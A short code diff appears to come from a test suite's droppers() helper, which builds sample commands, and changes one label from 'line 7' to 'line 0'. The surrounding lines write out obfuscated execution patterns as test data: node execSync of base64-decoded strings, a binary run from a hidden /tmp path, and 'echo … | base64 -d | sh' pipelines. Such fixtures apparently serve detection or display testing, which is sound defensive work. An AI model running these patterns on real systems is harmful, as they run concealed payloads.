@@ -101,7 +101,7 @@ def droppers():
         shown(NETWORK, "node", "-e", "require('child_process').execSync("
               "Buffer.from('%s','base64').toString())" % b64(NETWORK)),
         shown(NETWORK, "/tmp/.cache/upd", "--run", b64(NETWORK)),
-        shown(": line 7 of a long script", "sh", "-c",
+        shown(": line 0 of a long script", "sh", "-c",
               "echo %s | base64 -d | sh" % b64(long)),
         shown("\u043f\u0440\u0438\u0432\u0435\u0442", "sh", "-c",
               "echo %s | base64 -d | sh"
